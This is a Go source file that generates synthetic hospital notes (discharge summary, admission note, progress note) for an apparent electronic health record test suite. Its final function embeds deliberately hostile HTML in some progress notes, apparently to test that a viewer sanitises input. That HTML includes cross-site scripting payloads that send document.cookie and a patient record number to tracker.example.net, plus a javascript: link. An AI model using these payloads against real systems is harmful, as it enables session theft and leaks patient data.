package ehr

import (
	"fmt"
	"strings"
	"time"
)

// story returns the visit's narrative, or an empty one for a generated note.
func (e encounterInfo) story() narrative {
	if e.v.story != nil {
		return *e.v.story
	}
	return narrative{}
}

// courseParas is the hospital course or assessment: the story's paragraphs, or the visit's
// one-line course.
func (e encounterInfo) courseParas() []string {
	if s := e.story().course; s != nil {
		return s
	}
	return []string{e.v.course}
}

// diagnosisItems lists the visit's diagnoses with their ICD-10-CM codes.
func diagnosisItems(e encounterInfo) []string {
	catalog := conditionCatalog()
	var out []string
	for i, key := range e.v.dx {
		c := catalog[catalogKey(key)]
		label := "Secondary"
		if i == 0 {
			label = "Principal"
		}
		out = append(out, fmt.Sprintf("%s: %s (ICD-10-CM %s)", label, c.text, c.icd.code))
	}
	return out
}

// dischargeSummary writes the discharge summary of a finished stay.
func (r *record) dischargeSummary(e encounterInfo) note {
	author, written := e.attending(), e.end.Add(2*time.Hour)
	parts := []section{
		{heading: "Diagnoses", items: diagnosisItems(e)},
		{heading: "Reason for admission", paras: []string{r.admissionReason(e)}},
		{heading: "Hospital course", paras: e.courseParas()},
		{heading: "Pertinent results", table: r.resultsTable(e, true, e.start), paras: imagingParas(e)},
	}
	if e.v.consultant != "" {
		parts = append(parts, section{heading: "Consultants", items: []string{contactLine(e.v.consultant)}})
	}
	parts = append(parts,
		section{heading: "Condition at discharge", paras: []string{orString(e.story().exam,
			"Stable. Afebrile, comfortable on room air, tolerating a regular diet and back to baseline activity.")}},
		r.dischargeMeds(e),
		section{heading: "Allergies", items: r.allergyText()},
		section{heading: "Follow-up", items: r.followUp(e)},
		section{heading: "Pending results", paras: []string{orString(e.story().pending, "None at the time of discharge.")}},
		section{heading: "Who to call", items: r.contacts(e, author, written)},
	)
	doc := document{title: "Discharge Summary", header: r.header(e, written), parts: parts, signed: signedLine(author, written)}
	return note{kind: kindDischarge, author: author, written: written, doc: doc, format: orString(e.v.format, "html")}
}

// admissionReason is the story's history, or a sentence saying who was admitted, from where
// and with what.
func (r *record) admissionReason(e encounterInfo) string {
	if hpi := e.story().hpi; hpi != "" {
		return hpi
	}
	from := map[string]string{
		"emd": "from the Emergency Department", "mp": "directly on referral from the primary care provider",
		"hosp-trans": "on transfer from the birth hospital",
	}[e.admitSource()]
	return fmt.Sprintf("%s is %s admitted %s with %s.", r.row.given, r.ageWords(e.start), from, strings.ToLower(e.v.reason.display))
}

// dischargeMeds lists the medicines to take at home: new ones and those to continue.
func (r *record) dischargeMeds(e encounterInfo) section {
	written, continued := r.homeMeds(e)
	s := section{heading: "Discharge medications", table: medsTable(append(written, continued...), func(o medOrder) string {
		if inOrders(written, o.id) {
			return "New"
		}
		return "Continue"
	})}
	if s.table == nil {
		s.paras = []string{"No new or continuing medications."}
	}
	return s
}

// imagingParas reports the imaging conclusion of the visit (or of the ED visit before a
// stay), if any.
func imagingParas(e encounterInfo) []string {
	cxr := e.v.cxr
	if cxr == "" && e.ed != nil {
		cxr = e.ed.v.cxr
	}
	if cxr == "" {
		return nil
	}
	return []string{"Chest X-ray, two views: " + cxr}
}

// followUp is the story's follow-up plan, or the usual one: the PCP within a week and the
// consulting specialty's clinic.
func (r *record) followUp(e encounterInfo) []string {
	if f := e.story().followUp; f != nil {
		return f
	}
	pcp := "the primary care provider"
	if typ, id, ok := strings.Cut(r.row.gp, "/"); ok {
		pcp = gpDisplay(typ, id)
	}
	out := []string{fmt.Sprintf("%s within one week of discharge.", pcp)}
	if e.v.consultant != "" {
		out = append(out, fmt.Sprintf("%s clinic (%s) in two to four weeks; the clinic will call the family to schedule.",
			departments()[practitionerByID(e.v.consultant).org].serviceText, practitionerName(e.v.consultant)))
	}
	return append(out, "Return to the Emergency Department for breathing difficulty, persistent vomiting, lethargy or any other concern.")
}

// admissionNote writes the history and physical of a stay still in progress.
func (r *record) admissionNote(e encounterInfo) note {
	author, written := e.unitSpans()[0].attending, e.start.Add(3*time.Hour)
	st := e.story()
	doc := document{title: "History and Physical", header: r.header(e, written), parts: []section{
		{heading: "Chief complaint", paras: []string{e.v.reason.display}},
		{heading: "History of present illness", paras: []string{orString(st.hpi, fmt.Sprintf("%s is %s admitted from the Emergency Department with %s.",
			r.row.given, r.ageWords(e.start), strings.ToLower(e.v.reason.display)))}},
		{heading: "Results", table: r.resultsTable(e, false, e.start), paras: imagingParas(e)},
		{heading: "Assessment and plan", paras: e.courseParas()},
		{heading: "Allergies", items: r.allergyText()},
		{heading: "Code status and family", paras: []string{fmt.Sprintf("Full code. Plan discussed with %s (%s) at the bedside.", r.row.guardian, r.row.relation)}},
		{heading: "Who to call", items: r.contacts(e, author, written)},
	}, signed: signedLine(author, written)}
	return note{kind: kindHP, author: author, written: written, doc: doc, format: "text"}
}

// progressNote writes the note of the second hospital day, when the stay lasted that long.
// A hostile visit's note is HTML and carries markup pasted from another system.
func (r *record) progressNote(e encounterInfo) (note, bool) {
	day2 := localDay(e.start).AddDate(0, 0, 1)
	written := hospitalTime(day2, 9, 30)
	if (!e.inProgress() && !written.Before(e.end)) || !written.Before(r.now()) {
		return note{}, false
	}
	author := e.unitSpans()[0].attending
	parts := []section{
		{heading: "Subjective", paras: []string{fmt.Sprintf("No acute events overnight. %s (%s) at the bedside.", r.row.guardian, r.row.relation)}},
		{heading: "Objective", paras: []string{"Vital signs reviewed in the flowsheet."}, table: r.resultsTable(e, false, day2)},
		{heading: "Assessment and plan", paras: e.courseParas()[:1]},
		{heading: "Who to call", items: r.contacts(e, author, written)},
	}
	format := "text"
	if e.v.hostile {
		format = "html"
		parts = append(parts[:3], append([]section{hostileSection(mrn(r.n))}, parts[3:]...)...)
	}
	doc := document{title: "Progress Note, Hospital Day 2", header: r.header(e, written), parts: parts, signed: signedLine(author, written)}
	return note{kind: kindProgress, author: author, written: written, doc: doc, format: format}, true
}

// hostileSection is an asthma action plan pasted into a note from a school health portal: it
// carries a script, an event handler, a javascript: link and an external image, all of which
// a viewer must strip before showing the note. Its text says what the plan says.
func hostileSection(mrn string) section {
	return section{
		heading: "Asthma action plan (pasted from the school health portal)",
		paras:   []string{"Green zone: controller twice daily. Yellow zone: albuterol 4 puffs every 4 hours and call the PCP. Red zone: albuterol and call 911."},
		rawHTML: `<div class="action-plan" onclick="alert('clicked')">
<p>Green zone: controller twice daily. Yellow zone: albuterol 4 puffs every 4 hours and call the PCP. Red zone: albuterol and call 911.</p>
<img src="https://tracker.example.net/pixel.gif?mrn=` + mrn + `" alt="" onerror="fetch('https://tracker.example.net/steal?c='+document.cookie)">
<p><a href="javascript:alert(document.domain)">Open the printable action plan</a></p>
<script>document.location='https://tracker.example.net/?c='+encodeURIComponent(document.cookie);</script>
</div>`,
	}
}
